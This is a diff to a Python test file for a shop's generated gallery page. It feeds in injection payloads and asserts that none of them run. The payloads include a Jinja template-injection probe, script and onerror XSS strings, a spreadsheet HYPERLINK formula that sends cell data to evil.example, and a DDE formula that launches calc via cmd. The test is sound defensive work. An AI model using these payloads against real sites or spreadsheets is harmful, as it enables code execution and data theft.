@@ -35,7 +35,9 @@ IN_URLS = ("planted6secret", "planted7secret", "planted8secret")
 
 TEXTS = {
     "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
-    "script": "</script><script>alert(1)</script><img src=x onerror=alert(2)>",
+    # Tags are taken out of titles; entities become the signs that they stand for.
+    "script": "Mug &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
+    "&lt;img src=x onerror=alert(2)&gt;",
     "markup": "[/] [red]Mug[/red] [link=https://evil.example]here[/link]",
     "formula": '=HYPERLINK("https://evil.example?"&A1,"Mug")',
     "wide formula": "\uff1dcmd|' /C calc'!A0",
@@ -243,7 +245,7 @@ def test_the_gallery_shows_the_texts_and_runs_none(night: Night) -> None:
     text = (night.shop.home.site / "index.html").read_text("utf-8")
     page = Page()
     page.feed(text)
-    assert (page.handlers, page.scripts) == ([], 2)  # the products' JSON and the page's own script
+    assert (page.handlers, page.scripts) == ([], 2)  # the products' index and the page's own script
     assert "<img src=x" not in text
     assert "Content-Security-Policy" in text
 
